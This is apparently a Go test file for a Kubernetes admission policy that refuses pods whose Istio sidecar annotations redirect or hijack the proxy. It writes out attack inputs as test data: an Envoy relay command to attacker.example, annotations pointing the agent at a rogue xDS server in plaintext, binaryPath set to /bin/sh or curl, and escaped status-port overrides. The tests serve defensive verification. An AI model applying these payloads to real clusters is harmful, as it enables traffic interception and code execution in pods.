/*
Copyright The meshinit Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package charts_test

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apiserver/pkg/admission"
	plugincel "k8s.io/apiserver/pkg/admission/plugin/cel"
	"k8s.io/apiserver/pkg/admission/plugin/webhook/matchconditions"
	"k8s.io/apiserver/pkg/authentication/user"
	"k8s.io/apiserver/pkg/cel/environment"
	"k8s.io/utils/ptr"

	"github.com/meshinit/meshinit/api/v1alpha1"
)

// istioProxyAsTrusted is the first istio-proxy entry of the Istio preset
// (presets/istio.yaml) as a container and its volumes: every exact
// argument, a value for each pattern, each env variable with a value or a
// valueFrom, every mount and volume; running as the proxy, UID/GID 1337.
func istioProxyAsTrusted(t *testing.T) (corev1.Container, []corev1.Volume) {
	t.Helper()
	var entry map[string]any
	for _, e := range loadPreset(t, "istio").ProxyContainers {
		if e["name"] == "istio-proxy" {
			entry = e
			break
		}
	}
	if entry == nil {
		t.Fatal("presets/istio.yaml: no istio-proxy")
	}
	samples := map[string]string{
		"--proxyLogLevel=(trace|debug|info|warning|error|critical|off)": "--proxyLogLevel=warning",
	}
	c := corev1.Container{Name: "istio-proxy", Image: entry["image"].(string) + ":1.28.0",
		SecurityContext: &corev1.SecurityContext{RunAsUser: ptr.To[int64](1337), RunAsGroup: ptr.To[int64](1337),
			AllowPrivilegeEscalation: ptr.To(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}}}
	for _, a := range entry["args"].([]any) {
		switch a := a.(type) {
		case string:
			c.Args = append(c.Args, a)
		case map[string]any:
			if s, ok := samples[a["pattern"].(string)]; ok {
				c.Args = append(c.Args, s)
			} else if a["pattern"].(string)[:3] == "--p" {
				c.Args = append(c.Args, "--proxyComponentLogLevel=misc:error")
			} else {
				c.Args = append(c.Args, "--log_output_level=default:info")
			}
		}
	}
	roundTrip := func(in, out any) {
		b, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(b, out); err != nil {
			t.Fatal(err)
		}
	}
	for _, e := range entry["env"].([]any) {
		e := e.(map[string]any)
		if _, pattern := e["pattern"]; pattern {
			continue
		}
		var v corev1.EnvVar
		roundTrip(e, &v)
		c.Env = append(c.Env, v)
	}
	roundTrip(entry["volumeMounts"], &c.VolumeMounts)
	var volumes []corev1.Volume
	roundTrip(entry["volumes"], &volumes)
	return c, volumes
}

// relayCommand is a shell command that runs Envoy with a configuration of
// its own: a TCP relay from the pod's loopback to the author's host.
const relayCommand = `exec envoy --config-yaml '{static_resources: {listeners: [{address: {socket_address: {address: 127.0.0.1, port_value: 9999}}, ` +
	`filter_chains: [{filters: [{name: t, typed_config: {"@type": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, stat_prefix: t, cluster: out}}]}]}], ` +
	`clusters: [{name: out, type: STRICT_DNS, load_assignment: {cluster_name: out, endpoints: [{lb_endpoints: [{endpoint: {address: {socket_address: {address: attacker.example, port_value: 443}}}}]}]}}]}}'`

// TestIstioProxyReconfigurationRefused (found by a red-team read): a pod
// with istio-proxy exactly as the Istio preset trusts it (which mounts
// istio-podinfo, the pod's annotations through the downward API, where
// pilot-agent reads proxy.istio.io/config, sidecar.istio.io/discoveryAddress
// and status.sidecar.istio.io/port at run time, in
// pilot/cmd/pilot-agent/config ConstructProxyConfig) is refused under
// interception: Required, in both injector modes, with annotations that
// turn off or move the status port 15020 (left to the proxy by
// ignored-inbound-ports), point the agent at the author's xDS server in
// plaintext, or give Envoy a configuration or binary of the author's (the
// last: /bin/sh -c <a command>, run as UID 1337 around the redirect). The
// same pod without them is admitted, and with an untrusted env variable
// refused (the control).
func TestIstioProxyReconfigurationRefused(t *testing.T) {
	required := redirectPolicy(inNamespace.Name, "required", v1alpha1.RedirectPolicySpec{Interception: v1alpha1.InterceptionRequired})
	proxy, volumes := istioProxyAsTrusted(t)
	bypasses := [][2]string{
		{"status.sidecar.istio.io/port", " 15020"},
		{"status.sidecar.istio.io/port", "15020\n"},
		{"proxy.istio.io/config", `{"status\u0050ort": 15999}`},
		{"proxy.istio.io/config", `"status\x50ort": 15999`},
		{"proxy.istio.io/config", "? \"status\\\n  Port\"\n: 15999\n"},
		{"proxy.istio.io/config", `{"discoveryAddress": "xds.attacker.example:15010", "controlPlaneAuthPolicy": "NONE"}`},
		{"sidecar.istio.io/discoveryAddress", "xds.attacker.example:15012"},
		{"proxy.istio.io/config", `{"customConfigFile": "/var/run/secrets/istio/crl/envoy.yaml"}`},
		{"proxy.istio.io/config", `{"binaryPath": "/usr/bin/curl"}`},
		// pilot-agent runs /bin/sh -c <customConfigFile> ...: here Envoy
		// (in the image) as a plain TCP relay from 127.0.0.1:9999 to the
		// author's host, as UID 1337.
		{"proxy.istio.io/config", fmt.Sprintf(`{"binaryPath": "/bin/sh", "customConfigFile": %q}`, relayCommand)},
	}
	for _, mode := range []string{"webhook", "policy"} {
		values := meshPodValues("istio")
		values["injector"] = mode
		c := compile(t, chartPolicy(t, values))
		in, err := newInjector(meshPodValues("istio"))
		if err != nil {
			t.Fatal(err)
		}
		withProxy := func(change func(*corev1.Container)) podOption {
			return func(p *corev1.Pod) {
				pc := *proxy.DeepCopy()
				if change != nil {
					change(&pc)
				}
				p.Spec.Containers = append(p.Spec.Containers, pc)
				p.Spec.Volumes = append(p.Spec.Volumes, volumes...)
			}
		}
		base := pod("p", annotations("sidecar.istio.io/inject", "false"), withProxy(nil), injectedBy(in))
		if denied := c.denials(t, request{object: base, namespace: inNamespace, params: required}); len(denied) > 0 {
			t.Fatalf("%s: istio-proxy as the preset trusts it: denied %q", mode, denied)
		}
		control := pod("p", withProxy(func(pc *corev1.Container) { pc.Env = append(pc.Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/x.so"}) }), injectedBy(in))
		if denied := c.denials(t, request{object: control, namespace: inNamespace, params: required}); len(denied) == 0 {
			t.Errorf("%s: control, istio-proxy with LD_PRELOAD: admitted", mode)
		}
		for _, b := range bypasses {
			t.Run(mode+"/"+b[0]+"="+b[1], func(t *testing.T) {
				p := pod("p", annotations("sidecar.istio.io/inject", "false"), withProxy(nil), injectedBy(in), annotations(b[0], b[1]))
				if denied := c.denials(t, request{object: p, namespace: inNamespace, params: required}); len(denied) == 0 {
					t.Errorf("admitted under interception: Required with trusted istio-proxy (runs as 1337, reads this annotation at run time)")
				}
			})
		}
	}
}

// TestGovernedAnnotationUpdatesChecked (found by a red-team read): a pod
// UPDATE that leaves the containers alone but changes an annotation a
// trusted proxy reads at run time is checked (the matchCondition
// pod-template-changed matches it): the kubelet rewrites istio-podinfo's
// annotations file on an update, and pilot-agent reads it again whenever
// the container restarts (a failing liveness probe, or the app POSTing
// /quitquitquit to Envoy's admin on 127.0.0.1:15000). So a pod admitted
// clean under interception: Required and annotated afterwards with
// status.sidecar.istio.io/port: "0" is refused as on create. An update of
// another annotation is still not checked.
func TestGovernedAnnotationUpdatesChecked(t *testing.T) {
	values := meshPodValues("istio")
	vap := chartPolicy(t, values)
	c := compile(t, vap)
	in, err := newInjector(values)
	if err != nil {
		t.Fatal(err)
	}
	proxy, volumes := istioProxyAsTrusted(t)
	withProxy := func(p *corev1.Pod) {
		p.Spec.Containers = append(p.Spec.Containers, *proxy.DeepCopy())
		p.Spec.Volumes = append(p.Spec.Volumes, volumes...)
	}
	required := redirectPolicy(inNamespace.Name, "required", v1alpha1.RedirectPolicySpec{Interception: v1alpha1.InterceptionRequired})
	old := pod("p", annotations("sidecar.istio.io/inject", "false"), withProxy, injectedBy(in))
	old.Namespace = inNamespace.Name
	if denied := c.denials(t, request{object: old, namespace: inNamespace, params: required}); len(denied) > 0 {
		t.Fatalf("the clean pod: denied %q", denied)
	}
	updated := old.DeepCopy()
	updated.Annotations["status.sidecar.istio.io/port"] = "0"
	// On create the same pod is refused (TestMeshListenersRefused):
	if denied := c.denials(t, request{object: updated, namespace: inNamespace, params: required}); len(denied) == 0 {
		t.Fatalf("status port 0 on create: admitted")
	}

	accessors := make([]plugincel.ExpressionAccessor, len(vap.Spec.MatchConditions))
	for i := range vap.Spec.MatchConditions {
		accessors[i] = (*matchconditions.MatchCondition)(&vap.Spec.MatchConditions[i])
	}
	matcher := matchconditions.NewMatcher(c.compiler.CompileCondition(accessors, policyVars, environment.StoredExpressions), vap.Spec.FailurePolicy, "policy", "validate", vap.Name)
	matches := func(updated *corev1.Pod) bool {
		gvk := schema.GroupVersionKind{Version: "v1", Kind: "Pod"}
		attr := admission.NewAttributesRecord(updated, old, gvk, inNamespace.Name, updated.Name, schema.GroupVersionResource{Version: "v1", Resource: "pods"}, "",
			admission.Update, &metav1.UpdateOptions{}, false, &user.DefaultInfo{Name: "author"})
		va := &admission.VersionedAttributes{Attributes: attr, VersionedKind: gvk}
		va.VersionedObject.Set(updated)
		va.VersionedOldObject.Set(old)
		res := matcher.Match(context.Background(), va, required, nil)
		if res.Error != nil {
			t.Fatal(res.Error)
		}
		return res.Matches
	}
	if !matches(updated) {
		t.Errorf("UPDATE adding status.sidecar.istio.io/port=0 to a pod whose trusted istio-proxy reads its annotations: not checked, the policy never runs")
	}
	for _, a := range [][2]string{{"proxy.istio.io/config", "{}"}, {"sidecar.istio.io/discoveryAddress", "x:15012"}} {
		changed := old.DeepCopy()
		changed.Annotations[a[0]] = a[1]
		if !matches(changed) {
			t.Errorf("UPDATE adding %s: not checked", a[0])
		}
	}
	other := old.DeepCopy()
	other.Annotations["example.com/owner"] = "team-a"
	if matches(other) {
		t.Errorf("UPDATE of an annotation no proxy reads: checked, want skipped")
	}
}
